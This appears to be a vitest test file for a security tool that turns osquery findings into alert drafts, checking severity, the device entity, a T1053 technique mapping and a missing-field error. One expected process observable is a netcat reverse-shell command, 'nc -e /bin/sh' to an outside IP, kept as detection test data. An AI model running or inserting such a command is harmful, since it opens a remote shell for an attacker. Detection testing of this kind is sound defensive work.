import { readFileSync } from "node:fs";
import { expect, it } from "vitest";
import { parseBody } from "../../src/ingest/parse.ts";
import { AlertDraft } from "../../src/model/alert.ts";
import { osquerySource as source } from "./normalize.ts";

/** The drafts of a fixture, as ingestion would hand it over; null for what is no alert. */
function read(name: string) {
  const body = readFileSync(new URL(`./fixtures/${name}`, import.meta.url));
  const raws = parseBody(body, undefined, undefined, source.text).documents.map(({ raw }) => raw);
  return raws
    .flatMap((raw) => source.split?.(raw, {}) ?? [raw])
    .map((raw) => {
      const draft = source.normalize(raw, {}, { receivedAt: new Date("2026-03-02T00:00:00Z") });
      return draft === null ? null : AlertDraft.parse(draft);
    });
}

it("reads what was found by a query that looks for something bad, and nothing of inventories or of what is gone", () => {
  const [found, inventory, gone] = read("tls-logger.json");
  expect(found).toMatchObject({
    severity: "high",
    time: "2026-03-01T10:00:00.000Z",
    entities: [{ type: "device", key: "mac-1.example.com" }],
  });
  expect([inventory, gone]).toEqual([null, null]);
});

it("reads each row of a batch", () => {
  expect(read("batch.json")[0]).toMatchObject({
    techniques: [{ id: "T1053" }],
    observables: [{ type: "file" }, { type: "process", value: "nc -e /bin/sh 203.0.113.15 80" }],
  });
});

it("names what is missing", () => expect(() => source.normalize({ columns: {} }, {})).toThrow(/\$\.name/));
